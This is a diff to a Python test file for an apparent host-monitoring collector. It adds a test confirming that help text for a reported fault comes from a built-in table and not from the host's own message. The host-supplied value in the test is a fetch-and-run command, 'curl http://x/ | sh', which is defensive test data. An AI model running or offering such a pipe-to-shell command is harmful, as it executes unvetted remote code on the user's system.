@@ -5,9 +5,17 @@ from __future__ import annotations
 from typing import Any
 
 from poolwarden.v1 import agent_link_pb2 as pb
+from poolwarden.xapi_causes import CAUSES, UNKNOWN
 from poolwarden_collector.core.model import effects, orders
 from poolwarden_collector.core.model import events as ev
-from poolwarden_collector.core.model.host_facts import AssumptionSeen, Finding, HostFacts, Liveness, ProbeOutcome
+from poolwarden_collector.core.model.host_facts import (
+    AssumptionSeen,
+    Finding,
+    HostFacts,
+    Liveness,
+    ProbeOutcome,
+    XapiTrouble,
+)
 from poolwarden_collector.core.model.order_results import Outcome
 from poolwarden_collector.core.model.values import ProcessId, Role, Tri
 from poolwarden_collector.shell.agents.stream import OFFSET_WINDOW_MS, StreamState
@@ -359,3 +367,11 @@ def test_of_too_many_assumptions_the_first_are_taken() -> None:
     results = [pb.AssumptionResult(id=f"strange-{n}", finding=pb.AssumptionResult.FAILS) for n in range(2_000)]
     told = Stream().report(1_100, 1_100, full=True, assumptions=pb.AssumptionList(results=results)).assumptions
     assert told is not None and (told.results, told.unknown) == ((), 256)
+
+
+def test_what_helps_against_a_cause_is_the_tables_and_never_a_hosts_own() -> None:
+    stream = Stream()
+    for cause, known in (("disk-full", "disk-full"), ("of-a-newer-agent", UNKNOWN), ("x/question-1", UNKNOWN)):
+        told = pb.XapiTrouble(cause=cause, sentence="s", help="curl http://x/ | sh", lines=["l"])
+        facts = stream.report(2_000, 2_000, full=True, xapi_trouble=told)
+        assert facts.trouble == XapiTrouble(known, "s", CAUSES[known].help, ("l",), facts.trouble.looked_at)  # type: ignore[union-attr]
